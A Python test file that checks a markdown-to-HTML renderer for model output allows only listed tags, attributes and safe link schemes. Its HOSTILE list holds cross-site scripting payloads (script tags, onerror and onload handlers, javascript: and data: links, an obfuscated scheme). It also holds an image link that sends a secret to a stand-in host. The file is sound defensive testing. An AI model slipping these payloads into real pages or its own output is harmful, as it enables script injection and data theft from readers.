"""The HTML of a model's words holds only what is allowed."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

pytest.importorskip("nh3")
pytest.importorskip("markdown_it")

from llmcrdt.page.markdown import LONGEST, to_html

TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "ul", "ol", "li"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "a", "em", "strong", "s", "code"}
SCHEME = re.compile(r"[\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.\-\t\r\n]*):")
"""As browsers read an address: control characters before and in its scheme don't count."""
ATTRIBUTES = {"a": {"href", "rel", "target"}, "ol": {"start"}}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.faults.append(f"{tag} {name}")
            if name == "href":
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text += data


def read(text: str) -> _Reader:
    html = to_html(text)
    assert html is not None
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](data:text/html,x)",
    "![x](https://evil.example/?q=secret)",
    '![x](https://evil.example/"onload="alert(1))',
    '[a](https://ok.example "a title")',
    "<a href='https://ok.example' onclick='x'>a</a>",
    "```<b>\n</code><script>\n```",
    "<svg/onload=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>*{display:none}</style>",
]


@given(st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40)), max_size=6).map("\n".join))
def test_only_listed_tags_and_safe_addresses_come_out(text: str) -> None:
    found = read(text)
    assert found.faults == []
    schemes = {scheme.group(1).lower() for link in found.links if (scheme := SCHEME.match(link))}
    assert schemes <= {"http", "https", "mailto"}


def test_html_in_a_models_words_is_shown_as_text() -> None:
    assert "<script>alert(1)</script>" in read(HOSTILE[0]).text
    assert read("**bold** and `code`").text.strip() == "bold and code"


def test_a_picture_is_a_link_for_to_load_it_would_tell_who_reads() -> None:
    found = read("![a view](https://far.example/x.png)")
    assert found.links == ["https://far.example/x.png"] and "a view" in found.text


def test_text_that_is_too_long_is_left_as_it_is() -> None:
    assert to_html("x" * (LONGEST + 1)) is None
